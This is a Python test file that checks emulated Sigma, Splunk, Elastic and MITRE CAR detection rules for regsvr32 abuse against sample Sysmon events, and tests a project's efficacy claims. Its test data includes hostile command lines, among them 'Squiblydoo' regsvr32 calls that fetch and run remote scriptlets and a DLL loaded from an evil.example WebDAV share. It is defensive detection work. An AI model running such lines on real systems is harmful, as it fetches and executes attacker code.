# -*- coding: utf-8 -*-
"""The emulated public rules (tests/support/peers.py) and the comparison docs/efficacy.md states.

Each rule gets lines it was written to catch and lines its own filters or its wording leave out
(some negatives are the defects research detections.md section 4 records, e.g. Sigma 88a87a10's
'\\REGSVR32.EXE'). The comparison asserts only what holds on the corpora; where a vendor is better
on an axis docs/efficacy.md says so and nothing here claims otherwise.
"""
import csv
import ntpath
import os

import pytest

import efficacy
from support import peers

pytestmark = pytest.mark.pure

SYS32 = "C:\\Windows\\System32\\regsvr32.exe"
APP = "C:\\Program Files\\App\\setup.exe"
PUBLIC = "C:\\Users\\Public\\svc.exe"


def ev(cl, image=SYS32, ofn="REGSVR32.EXE", parent=APP, pcl="", cwd="C:\\Program Files\\App\\"):
    """A Sysmon 1 event as efficacy.event() builds it (empty fields left out)."""
    record = {"Image": image, "OriginalFileName": ofn, "CommandLine": cl, "ParentImage": parent,
              "ParentCommandLine": pcl, "CurrentDirectory": cwd}
    return dict((k, v) for k, v in record.items() if v)


def child_of(parent, cl="regsvr32 /s C:\\Windows\\System32\\x.dll"):
    return ev(cl, parent=parent)


SQUIBLYDOO = "regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll"
PLAIN = "regsvr32 /s x.dll"
NEUTRAL = child_of("C:\\Windows\\explorer.exe")

# rule id: (events it must flag, events it must not flag)
EXAMPLES = {
    # SigmaHQ
    "867356ee": ([ev(SQUIBLYDOO), ev("regsvr32 -i:ftp://10.0.0.1/a.sct scrobj.dll")],
                 [ev("regsvr32 /s C:\\Windows\\System32\\vbscript.dll")]),
    "2dd2c217": ([ev("regsvr32 /s /u /i:http://10.1.2.3/a.sct scrobj.dll")],
                 [ev(SQUIBLYDOO), ev("regsvr32 /u /i:\"http://10.1.2.3/a.sct\" scrobj.dll")]),
    "b236190c": ([ev("regsvr32 -s -u -i:file.sct scrobj.dll"), ev(u"regsvr32 \u2013i:file.sct scrobj.dll")],
                 [ev("regsvr32 /s /n /i:U shell32.dll")]),
    "88a87a10": ([ev("regsvr32 /s \\\\10.0.0.5\\share\\x.dll")],
                 [ev("regsvr32 /s C:\\Windows\\System32\\x.dll"),
                  ev("svc /s \\\\10.0.0.5\\share\\x.dll", image=PUBLIC)]),    # its OFN value never matches
    "9525dc73": ([ev("regsvr32 C:\\Users\\Public\\x.dll"), ev("regsvr32 C:\\ProgramData\\a\\x.dll")],
                 [ev("regsvr32 /s \"C:\\Program Files\\App\\x.dll\"")]),
    "327ff235": ([ev("regsvr32 /s C:\\PerfLogs\\x.dll"), ev("regsvr32 /s D:\\x.dll")],
                 [ev("regsvr32 /s \"C:\\Program Files\\App\\x.dll\""),
                  ev("C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\x.dll"),
                  ev("")]),
    "089fc3d2": ([ev("regsvr32 C:\\Users\\jdoe\\AppData\\Local\\Temp\\shell32.jpg")],
                 [ev("regsvr32 \"C:\\Users\\jdoe\\AppData\\Local\\Temp\\shell32.jpg\""), ev(PLAIN)]),
    "ab37a6ec": ([child_of("C:\\Windows\\System32\\cmd.exe"), child_of("C:\\x\\pwsh.exe")],
                 [child_of("C:\\Windows\\System32\\cmd.exe",
                           "regsvr32 /s C:\\Windows\\System32\\RpcProxy\\RpcProxy.dll"), NEUTRAL]),
    "50919691": ([ev("regsvr32 /s C:\\x\\payload.bin")],
                 [ev("regsvr32 /s x.ocx"), ev("regsvr32 /s a.ppl"), ev(PLAIN), ev("")]),
    "0ba1da6d": ([ev("svc.exe /s x.dll", image=PUBLIC)], [ev(PLAIN)]),
    "e4a6b256": ([ev(PLAIN, image="C:\\Users\\Public\\regsvr32.exe")],
                 [ev(PLAIN, image="C:\\Windows\\SysWOW64\\regsvr32.exe")]),
    "a7c3d773": ([ev("C:\\Windows\\System32\\regsvr32.exe")], [ev("regsvr32.exe /s x.dll")]),
    "d4ca7c59": ([ev(PLAIN, cwd="E:\\")], [ev(PLAIN, cwd="C:\\Temp\\"), ev(PLAIN, cwd="")]),
    "438025f9": ([child_of("C:\\Office\\WINWORD.EXE")], [NEUTRAL]),
    "208748f7": ([child_of("C:\\Office\\OUTLOOK.EXE")], [NEUTRAL]),
    "c27515df": ([child_of("C:\\Office\\ONENOTE.EXE")], [NEUTRAL]),
    "8a582fe2": ([child_of("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe")],
                 [child_of("C:\\Windows\\System32\\svchost.exe")]),
    "0d34ed8b": ([child_of("C:\\jre\\bin\\java.exe")], [child_of("C:\\jre\\bin\\javaw.exe")]),
    "03cc0c25": ([child_of("C:\\Windows\\System32\\mshta.exe")], [NEUTRAL]),
    "f3d39c45": ([child_of("C:\\Windows\\System32\\sdiagnhost.exe")], [NEUTRAL]),
    "69bd9b97": ([child_of("C:\\Users\\Public\\a.exe")], [child_of("C:\\Users\\jdoe\\a.exe")]),
    "6f0947a4": ([ev("calc.exe", image="C:\\Windows\\System32\\calc.exe", parent=SYS32)],
                 [ev("C:\\Windows\\System32\\WerFault.exe -u -p 4242 -s 120",
                     image="C:\\Windows\\System32\\WerFault.exe", parent=SYS32), ev("cmd.exe /c x", image="C:\\Windows\\System32\\cmd.exe", parent=SYS32)]),
    "ce2c44b5": ([ev(PLAIN, cwd="C:\\Users\\jdoe\\Downloads\\")],
                 [ev("C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\x.dll", cwd="C:\\Users\\jdoe\\"),
                  ev("regsvr32 /s /i:x x.dll", cwd="C:\\Users\\jdoe\\"), ev(PLAIN)]),
    "e4b6d2a7": ([child_of("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")],
                 [child_of("C:\\Windows\\System32\\cmd.exe")]),
    "e6eb5a96": ([ev("regsvr32.exe -s C:\\Users\\x\\AppData\\Local\\Temp\\abc.tmp", parent="C:\\Office\\EXCEL.EXE")],
                 [ev("regsvr32.exe -s C:\\Users\\x\\AppData\\Local\\Temp\\abc.dll", parent="C:\\Office\\EXCEL.EXE")]),
    "4fcac6eb": ([ev("regsvr32.exe C:\\ProgramData\\abc.tmp")], [ev("regsvr32.exe C:\\ProgramData\\abc.dll")]),
    "0033cf83": ([ev("regsvr32 -s C:\\Users\\Public\\a.dll calc")], [ev("regsvr32 -s C:\\Users\\Public\\a.dll")]),
    "bd70d3f8": ([ev("regsvr32.exe C:\\Users\\x\\AppData\\Local\\a.dll,DllEntry")],
                 [ev("regsvr32.exe C:\\Users\\x\\AppData\\Local\\a.dll")]),
    "8acf3cfa": ([ev("regsvr32 /s /i C:\\Users\\x\\AppData\\Roaming\\a.ocx")],
                 [ev("regsvr32 /s /i C:\\Users\\x\\AppData\\Roaming\\a.dll")]),
    "d52d2e87": ([ev("rundll32.exe shell32.dll ShellExec_RunDLL odbcconf.exe /a {regsvr C:\\x.dll} setfiledsndir /s",
                     image="C:\\Windows\\System32\\rundll32.exe", parent="C:\\Windows\\System32\\fodhelper.exe")],
                 [ev("rundll32.exe shell32.dll ShellExec_RunDLL odbcconf.exe /a {regsvr C:\\x.dll} setfiledsndir /s",
                     image="C:\\Windows\\System32\\rundll32.exe")]),
    "933f0bb5": ([ev("regsvr32 /s \"C:\\Program Files\\Notepad++\\contextMenu\\NppShell.dll\"",
                     image="C:\\Users\\jdoe\\Downloads\\regsvr32.exe")],
                 [ev("regsvr32 /s \"C:\\Program Files\\Notepad++\\contextMenu\\NppShell.dll\"")]),
    # Splunk ESCU
    "070e9b80": ([ev(SQUIBLYDOO)], [ev(PLAIN)]),
    "c9ef7dc4": ([ev(PLAIN), ev("regsvr32 -S x.dll")], [ev("regsvr32 x.dll")]),
    "f421c250": ([ev("regsvr32 /s /i x.dll")], [ev("regsvr32 -s -i:x x.dll"), ev("regsvr32 /i x.dll")]),
    "62732736": ([ev("regsvr32 /s C:\\ProgramData\\x.dat")], [ev("regsvr32 /s C:\\ProgramData\\x.dll")]),
    "4aa5d062": ([child_of("C:\\Windows\\System32\\mshta.exe")], [NEUTRAL]),
    "1f35e1da": ([child_of("C:\\Windows\\System32\\wscript.exe")], [child_of("C:\\Windows\\System32\\cmd.exe")]),
    "2d9fc90c": ([child_of("C:\\Office\\EXCEL.EXE")], [NEUTRAL]),
    "7349a9e9": ([ev("svc.exe x.dll", image=PUBLIC)], [ev(PLAIN)]),
    "326fdf44": ([ev(PLAIN, image="C:\\Users\\Public\\regsvr32.exe")], [ev(PLAIN)]),
    "fd496996": ([ev("svc.exe x.dll", image=PUBLIC)], [ev("svc.exe x.dll", image="C:\\Program Files\\App\\svc.exe")]),
    "95a455f0": ([child_of("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe")], [NEUTRAL]),
    "ba9e1954": ([child_of("C:\\Windows\\System32\\services.exe")], [NEUTRAL]),
    "09e5c72a": ([child_of("C:\\Windows\\System32\\svchost.exe")], [NEUTRAL]),
    "f6601940": ([child_of("C:\\Windows\\System32\\mmc.exe")], [NEUTRAL]),
    "2eed004c": ([child_of("C:\\Windows\\System32\\wsmprovhost.exe")], [NEUTRAL]),
    "61490da9": ([ev("C:\\Windows\\explorer.exe", image="C:\\Windows\\explorer.exe", parent=SYS32)],
                 [ev("C:\\Windows\\explorer.exe /factory,{x}", image="C:\\Windows\\explorer.exe", parent=SYS32)]),
    "295ca9ed": ([child_of("C:\\Windows\\System32\\calc.exe")], [NEUTRAL]),
    # Elastic SIEM
    "cff92c41": ([ev("regsvr32 /s C:\\Users\\Public\\x.dll")],
                 [ev("regsvr32 C:\\Windows\\Help\\OEM\\scripts\\checkmui.dll"), ev(PLAIN)]),
    "a624863f": ([child_of("C:\\Office\\WINWORD.EXE")], [NEUTRAL]),
    "32f4675e": ([child_of("C:\\Office\\OUTLOOK.EXE")], [child_of("C:\\Office\\WINWORD.EXE")]),
    "37148ae6": ([ev(u"r\u1d49gsvr32 /s x.dll")], [ev(PLAIN)]),
    "8a1d4831": ([ev(PLAIN, parent="C:\\Windows\\explorer.exe", cwd="E:\\")],
                 [ev(PLAIN, parent="C:\\Windows\\explorer.exe", cwd="C:\\Users\\jdoe\\")]),
    "9a5b4e31": ([ev(PLAIN, parent="C:\\Windows\\explorer.exe", pcl="C:\\Windows\\explorer.exe -Embedding")],
                 [ev(PLAIN, parent="C:\\Windows\\explorer.exe",
                     pcl="explorer.exe /factory,{ceff45ee-c862-41de-aee2-a022c81eda92} -Embedding")]),
    "5d1d6907": ([ev("regsvr32 /s C:\\ProgramData\\x.dll", parent="C:\\Windows\\System32\\svchost.exe",
                     pcl="C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")],
                 [ev(PLAIN, parent="C:\\Windows\\System32\\svchost.exe",
                     pcl="C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")]),
    # Elastic Defend EP
    "0524c24c": ([ev(SQUIBLYDOO), ev("regsvr32 /u /s /i:C:\\x\\a.sct C:\\x\\s.dll")],
                 [ev("regsvr32 /s /i:\"C:\\Program Files\\App\\a.sct\" scrobj.dll"),
                  ev("regsvr32 /u /s /i:http://x/a x.dll", parent="C:\\Windows\\System32\\msiexec.exe")]),
    "5db08297": ([ev("regsvr32 C:\\Users\\jdoe\\Documents\\a.jpg"), ev("regsvr32 x.dll", cwd="E:\\")],
                 [ev("regsvr32 /s \"C:\\Program Files\\App\\x.dat\""),
                  ev("regsvr32 /s x.tmp", parent="C:\\Windows\\System32\\msiexec.exe",
                     pcl="C:\\Windows\\system32\\MsiExec.exe -Embedding 1234")]),
    "4bdd5646": ([ev("regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll")],
                 [ev("regsvr32 /s \\\\server\\share\\x.dll")]),
    "c34a9dca": ([ev("regsvr32 -s C:\\Users\\Public\\a.ocx", parent="C:\\Office\\EXCEL.EXE")],
                 [ev("regsvr32 /s C:\\Windows\\system32\\x.ocx", parent="C:\\Office\\EXCEL.EXE")]),
    "b0207677": ([ev("svc.exe x.dll", image=PUBLIC)], [ev("svc.exe x.dll", image="C:\\Program Files\\App\\svc.exe")]),
    "2c7b91fa": ([ev(u"r\u1d49gsvr32 /s x.dll")], [ev(PLAIN)]),
    # MITRE CAR
    "CAR-2019-04-002": ([ev("calc.exe", image="C:\\Windows\\System32\\calc.exe", parent=SYS32)],
                        [ev(PLAIN, parent=SYS32), NEUTRAL]),
    "CAR-2019-04-003": ([ev(SQUIBLYDOO)], [ev("regsvr32 /s /n /u /i:http://example.com/file.sct s.dll"),
                                           ev(SQUIBLYDOO.replace("regsvr32", "svc"), image=PUBLIC)]),
}


def test_every_rule_has_examples_and_one_id():
    ids = [r.id for r in peers.RULES]
    assert len(ids) == len(set(ids))
    assert set(ids) == set(EXAMPLES)
    assert all(pos and neg for pos, neg in EXAMPLES.values())
    assert set(r.vendor for r in peers.RULES) == set(peers.VENDORS)


@pytest.mark.parametrize("rule", peers.RULES, ids=lambda r: r.id)
def test_rule_examples(rule):
    positives, negatives = EXAMPLES[rule.id]
    for event in positives:
        assert rule.match(event), event
    for event in negatives:
        assert not rule.match(event), event


def test_match_helpers():
    assert peers.windash(" -i:") == [" -i:", " /i:", u" \u2013i:", u" \u2014i:", u" \u2015i:"]
    assert peers.argv('regsvr32 /s "C:\\Program Files\\a b\\x.dll" /i:"x y"') == [
        "regsvr32", "/s", "C:\\Program Files\\a b\\x.dll", "/i:x y"]
    assert peers.glob("C:\\Windows\\SysWOW64\\msiexec.exe", "?:\\windows\\syswow64\\msiexec.exe")
    assert not peers.glob("C:\\Windows\\SysWOW64\\msiexec.exe.bak", "?:\\windows\\syswow64\\msiexec.exe")
    assert peers.glob(["a", "C:\\Users\\Public\\x"], "C:\\Users\\Public\\*")


def test_no_corpus_row_has_a_parent_only_the_unemulated_sigma_rules_know():
    for name in efficacy.FILES:
        with open(os.path.join(efficacy.CORPUS, name), encoding="utf-8", newline="") as f:
            for row in csv.DictReader(f):
                assert ntpath.basename(row["parent_image"].lower()) not in peers.SIGMA_PRODUCT_PARENTS, row["id"]


COMPARED = efficacy.comparison(efficacy.scored())
COMPARISON = dict(COMPARED)
OURS_40, OURS_60 = (title for title, _, _ in efficacy.OURS)
VENDOR_ENGINES = [title for title, _ in efficacy.ENGINES]
NOISY = (peers.SIGMA, peers.ESCU, "all public rules together")
QUIET = (peers.SIEM, peers.EP, "Elastic SIEM + EP", peers.CAR)

# (our engine, column, "at least" or "at most", the engines compared with): docs/efficacy.md's claims.
CLAIMS = [(OURS_40, ("attack", "alert"), "at least", VENDOR_ENGINES),
          (OURS_60, ("attack", "alert"), "at least", VENDOR_ENGINES),
          (OURS_40, ("attack", "any"), "at least", VENDOR_ENGINES),
          (OURS_60, ("benign", "alert"), "at most", VENDOR_ENGINES),
          (OURS_40, ("benign", "alert"), "at most", NOISY),
          (OURS_40, ("benign", "any"), "at most", NOISY)]


def test_the_engines_compared_are_the_ones_the_readme_names():
    assert set(NOISY + QUIET) == set(VENDOR_ENGINES)


@pytest.mark.parametrize("claim", CLAIMS, ids=lambda c: "%s-%s-%s-%s" % (c[0][-3:], c[1][0], c[1][1], c[2][3:]))
def test_readme_claim(claim):
    ours, column, sense, others = claim
    for other in others:
        mine, theirs = COMPARISON[ours][column], COMPARISON[other][column]
        assert (mine >= theirs) if sense == "at least" else (mine <= theirs), (ours, column, other, mine, theirs)


def test_the_quiet_vendors_buy_their_quiet_with_recall():
    """Elastic and CAR flag no benign line but miss at least a quarter of the attacks we alert on."""
    for other in QUIET:
        assert COMPARISON[other][("attack", "alert")] <= COMPARISON[OURS_60][("attack", "alert")] - 0.25, other
